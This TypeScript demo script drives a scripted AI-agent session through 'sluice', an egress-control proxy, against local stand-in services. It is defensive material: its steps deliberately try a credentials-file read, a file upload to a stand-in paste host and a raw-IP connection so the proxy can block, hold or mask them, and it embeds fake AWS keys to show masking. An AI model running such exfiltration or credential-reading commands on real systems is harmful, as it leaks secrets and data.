// `make demo`: a real sidecar (explicit-proxy mode, no root, no cluster) in front of a scripted
// agent session against local upstreams that stand in for GitHub, npm, OpenAI and an exfil
// site. Real clients (git, curl) make the requests; each line shows what the agent asked, what
// sluice decided and why. Held requests go through the approval round trip against an in-process
// approvals backend (approvals-api.ts): the pod's creator cannot approve, a second person can,
// and the held request is then released and answered.
import { execFile } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { createBareRepo, gitBackendHandler } from '../testkit/git/git-backend.ts';
import { startTestSidecar } from '../testkit/sidecar/test-sidecar.ts';
import type { TestSidecar } from '../testkit/sidecar/test-sidecar.ts';
import { createTestCa, echoHandler, startHttpsUpstream } from '../testkit/sidecar/upstreams.ts';
import type { TestUpstream } from '../testkit/sidecar/upstreams.ts';
import { ANNOTATION_CREATOR, ANNOTATION_STATUS, HEADER_DECISION } from '../api/src/index.ts';
import type { Creator } from '../api/src/index.ts';
import { runCli } from '../cli/src/main.ts';
import { mintLeafCertificate } from '../sidecar/src/tls/leaf-certificates.ts';
import { DemoApprovalsApi } from './approvals-api.ts';
import type { DemoPod, DemoUser } from './approvals-api.ts';

const run = promisify(execFile);

// Well-formed but fake AWS credentials, served by the stand-in GitHub to show masking.
const DEMO_KEY_ID = 'AKIAQ4T7ZK2MWX3RPL6N';
const DEMO_SECRET = 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYzQ8Lk3Tq9V';

interface Step {
  say: string;
  cmd: string;
  args: string[];
  /** The policy holds it: what the second person does with the ApprovalRequest. */
  hold?: { decide: 'approve' } | { decide: 'deny'; reason: string };
}

/** The person who created the agent pod (the webhook's creator stamp) and a second approver. */
const ALICE: DemoUser = { username: 'alice@example.com', groups: ['sluice-approvers', 'developers'] };
const BOB: DemoUser = { username: 'bob@example.com', groups: ['sluice-approvers'] };

const tty = process.stdout.isTTY;
const paint = (code: string, text: string) => (tty ? `\x1b[${code}m${text}\x1b[0m` : text);

/** curl prints this after the response (-w), so the status is read whatever HTTP version it used. */
const STATUS_MARK = 'sluice-demo-status:';

function verdictLine(out: string, err: string): string {
  const decision = new RegExp(`^${HEADER_DECISION}: (.*)$`, 'mi').exec(out)?.[1]?.trim();
  const body = /\{"error":"([^"]+)","reason":"([^"]+)"/.exec(out);
  if (decision) {
    const code = body?.[1] ?? /code=([\w.]+)/.exec(decision)?.[1] ?? '';
    // A held request that was then denied (or expired) is answered with approval.*: the outcome is a refusal.
    const kind = code.startsWith('approval.') ? 'deny' : decision.split(';')[0]!;
    const reason = body?.[2] ?? 'refused at CONNECT, before any request was sent';
    return `${paint(kind === 'hold' ? '33' : '31', kind.toUpperCase().padEnd(5))} ${code}: ${reason}`;
  }
  const status = new RegExp(`^${STATUS_MARK} (\\d{3})$`, 'm').exec(out)?.[1];
  if (status && status !== '000') {
    const masked = [...out.matchAll(/\[REDACTED:([a-z0-9-]+)\]/g)].map((m) => m[1]);
    // The body is what follows the last header block, up to the status line curl appended.
    const body = (out.split(/\r?\n\r?\n/).pop() ?? '').replace(new RegExp(`\\n?${STATUS_MARK} \\d{3}\\s*$`), '');
    if (masked.length) return `${paint('32', 'ALLOW')} upstream answered ${status}; ${paint('36', `masked ${masked.length} secret(s): ${[...new Set(masked)].join(', ')}`)}\n        the agent saw: ${body.trim()}`;
    return `${paint('32', 'ALLOW')} upstream answered ${status}`;
  }
  return `${paint('31', 'FAIL ')} ${err.trim().split('\n').pop() || `curl exited without a response (status ${status ?? 'none'})`}`;
}

export async function runProxySession(write: (s: string) => void): Promise<void> {
  const ca = await createTestCa();
  const repos = createBareRepo('acme', 'app').root;
  const upstreams: TestUpstream[] = [];
  const git = await startHttpsUpstream(ca, ['github.com'], gitBackendHandler(repos));
  const api = await startHttpsUpstream(ca, ['registry.npmjs.org', 'api.openai.com', 'raw.githubusercontent.com', 'paste.example'], (req, res, body) => {
    // A file that should never have been committed: the agent must not see the credentials.
    if (req.url === '/acme/app/main/deploy/settings.json') {
      res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ region: 'eu-west-1', aws_access_key_id: DEMO_KEY_ID, aws_secret_access_key: DEMO_SECRET }));
      return;
    }
    echoHandler(req, res, body);
  });
  upstreams.push(git, api);
  const spoolDir = join(mkdtempSync(join(tmpdir(), 'sluice-demo-audit-')), 'spool');
  // The pod as the webhook left it: injected, stamped with its creator (alice), read by the sidecar
  // from the downward API files and by the approvals backend as the API server stores it.
  const creator: Creator = { username: ALICE.username, groups: ALICE.groups };
  const pod: DemoPod = { namespace: 'agents', name: 'coder-0', uid: randomUUID(), serviceAccount: 'coder', creator };
  const kube = mkdtempSync(join(tmpdir(), 'sluice-demo-kube-'));
  const podInfoDir = join(kube, 'podinfo');
  mkdirSync(podInfoDir);
  writeFileSync(join(podInfoDir, 'labels'), `app=${JSON.stringify('coder')}\nsluice.io/injected=${JSON.stringify('true')}\n`);
  writeFileSync(join(podInfoDir, 'annotations'), `${ANNOTATION_CREATOR}=${JSON.stringify(JSON.stringify(creator))}\n${ANNOTATION_STATUS}=${JSON.stringify('{"version":"demo"}')}\n`);
  const approvalsCert = (await mintLeafCertificate(ca.ca, '127.0.0.1')).toString('pem');
  const approvals = await new DemoApprovalsApi(pod, { cert: approvalsCert, key: ca.ca.leafKeyPem, caFile: ca.caFile }).start();
  const kubeconfig = { alice: approvals.userKubeconfig(kube, ALICE), bob: approvals.userKubeconfig(kube, BOB) };
  const sidecar: TestSidecar = await startTestSidecar({
    config: {
      audit: { spoolDir },
      pod: { namespace: pod.namespace, name: pod.name, uid: pod.uid, serviceAccount: pod.serviceAccount },
      podInfoDir,
      approvals: { kubeconfig: approvals.sidecarKubeconfig(kube), maxWaitMs: 60_000 },
    },
    resolve: {
      'github.com:443': git.dial,
      'registry.npmjs.org:443': api.dial,
      'api.openai.com:443': api.dial,
      'raw.githubusercontent.com:443': api.dial,
      'paste.example:443': api.dial,
    },
    extraRootsFiles: [ca.caFile],
  });
  const work = mkdtempSync(join(tmpdir(), 'sluice-demo-'));
  const env = {
    ...process.env,
    HTTPS_PROXY: sidecar.proxyUrl,
    GIT_SSL_CAINFO: sidecar.trust.bundleFile,
    HOME: work,
    GIT_AUTHOR_NAME: 'agent',
    GIT_AUTHOR_EMAIL: 'agent@example.com',
    GIT_COMMITTER_NAME: 'agent',
    GIT_COMMITTER_EMAIL: 'agent@example.com',
  };
  const curl = (...a: string[]) =>
    ['curl', ['-sS', '-i', '--max-time', '20', '-w', `\n${STATUS_MARK} %{http_code}\n`, '--cacert', sidecar.trust.caFile, '-x', sidecar.proxyUrl, ...a]] as const;
  const steps: Step[] = [
    { say: 'clone the repository', cmd: 'git', args: ['clone', '-q', 'https://github.com/acme/app.git', join(work, 'app')] },
    { say: 'install a dependency', ...pair(curl('https://registry.npmjs.org/express')) },
    { say: 'ask the model for help', ...pair(curl('https://api.openai.com/v1/chat/completions', '-H', 'content-type: application/json', '-d', '{"model":"gpt-5","messages":[{"role":"user","content":"fix the bug"}]}')) },
    { say: 'read the deployment settings (they contain AWS keys)', ...pair(curl('https://raw.githubusercontent.com/acme/app/main/deploy/settings.json')) },
    {
      say: 'read a credentials file',
      ...pair(curl('https://raw.githubusercontent.com/acme/app/main/.env')),
      hold: { decide: 'deny', reason: 'credentials stay out of the agent' },
    },
    { say: 'publish a package', ...pair(curl('-X', 'PUT', 'https://registry.npmjs.org/acme-app', '-d', '{}')) },
    { say: 'upload the source to a paste site', ...pair(curl('https://paste.example/upload', '--data-binary', '@/etc/os-release')) },
    { say: 'connect to an IP address', ...pair(curl('http://203.0.113.7/')) },
    { say: 'push a commit', cmd: 'sh', args: ['-c', `cd ${join(work, 'app')} && echo fix >> README.md && git commit -qam fix && git push -q origin main`], hold: { decide: 'approve' } },
  ];
  write(`sluice demo — sidecar session ${sidecar.sessionId.slice(0, 8)}, policy revision ${sidecar.engine.revision}\n`);
  write(`the agent talks through ${sidecar.proxyUrl}; upstreams are local stand-ins\n\n`);
  try {
    const kubectl = async (who: keyof typeof kubeconfig, args: string[]) => {
      const shown = args.map((a) => (/^[\w./:=-]+$/.test(a) ? a : `'${a}'`)).join(' ');
      write(`  ${paint('1', `$ kubectl sluice ${shown}`)}   ${paint('2', `# as ${who === 'alice' ? `${ALICE.username}, who created the pod` : `${BOB.username}, an approver`}`)}\n`);
      const lines: string[] = [];
      await runCli([...args, '-n', pod.namespace, '--kubeconfig', kubeconfig[who]], { out: (t) => lines.push(t), err: (t) => lines.push(t) });
      write(lines.join('').replace(/\n$/, '').replace(/^/gm, '    ') + '\n');
    };
    for (const step of steps) {
      write(`${paint('1', `▶ ${step.say}`)}\n`);
      // A held request waits in the sidecar for its ApprovalRequest to be decided.
      const held = step.hold ? approvals.nextCreated(20_000) : undefined;
      const running = run(step.cmd, step.args, { env, encoding: 'utf8' }).then(
        (r) => ({ out: r.stdout, err: r.stderr }),
        (e: Error & { stdout?: string; stderr?: string }) => ({ out: e.stdout ?? '', err: e.stderr ?? e.message }),
      );
      if (step.hold && held) {
        const request = await Promise.race([held, running.then(() => undefined)]);
        if (!request) {
          held.catch(() => undefined);
        } else {
          const name = request.metadata.name ?? '';
          write(`  ${paint('33', 'HOLD ')} ${request.spec.code}: ${request.spec.reason}\n        waiting for approval ${name}: ${request.spec.request.summary}\n`);
          await kubectl('bob', ['approvals']);
          if (step.hold.decide === 'approve') {
            await kubectl('alice', ['approve', name]);
            await kubectl('bob', ['approve', name]);
          } else {
            await kubectl('bob', ['deny', name, '--reason', step.hold.reason]);
          }
        }
      }
      const { out, err } = await running;
      const line = step.cmd === 'curl' ? verdictLine(out, err) : err.includes('403') ? `${paint('31', 'DENY ')} git reports: ${/.*(RPC failed|403).*/.exec(err)?.[0] ?? err.trim()}` : err ? `${paint('31', 'FAIL ')} ${err.trim()}` : `${paint('32', 'ALLOW')} ${step.say} succeeded`;
      write(`  ${step.hold ? 'then: ' : ''}${line}\n`);
    }
    const metrics = await (await fetch(`${sidecar.adminUrl}/metrics`)).text();
    write('\nmetrics (sluice_requests_total):\n');
    for (const l of metrics.split('\n').filter((x) => x.startsWith('sluice_requests_total'))) write(`  ${l}\n`);
  } finally {
    await sidecar.stop();
    await approvals.stop();
    for (const u of upstreams) await u.close();
  }
  // The session was recorded as a hash chain in the sidecar's spool; read it back like an auditor.
  const session = sidecar.sessionId;
  write(`\n${paint('1', `▶ kubectl sluice replay ${session} --spool ${spoolDir}`)}\n`);
  await runCli(['replay', session, '--spool', spoolDir], { out: write, err: write });
  write(`\n${paint('1', `▶ kubectl sluice verify ${session} --spool ${spoolDir} --require-end`)}\n`);
  await runCli(['verify', session, '--spool', spoolDir, '--require-end'], { out: write, err: write });
}

function pair(c: readonly [string, readonly string[]]): { cmd: string; args: string[] } {
  return { cmd: c[0], args: [...c[1]] };
}
